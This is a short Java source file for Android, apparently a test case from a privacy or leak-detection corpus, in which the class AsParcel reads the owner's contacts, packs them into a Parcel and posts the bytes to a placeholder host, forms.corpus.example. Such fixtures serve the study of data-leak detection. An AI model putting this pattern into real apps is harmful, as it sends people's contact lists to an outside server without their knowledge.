package org.corpus;

import android.os.Parcel;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** What goes between processes, sent out. */
public class AsParcel extends Screen {
    @Override
    protected void act() throws Exception {
        Parcel parcel = Parcel.obtain();
        parcel.writeStringList(Owner.contacts(this));
        byte[] data = parcel.marshall();
        parcel.recycle();
        Net.post("http://forms.corpus.example/parcel", "application/octet-stream", data);
    }
}
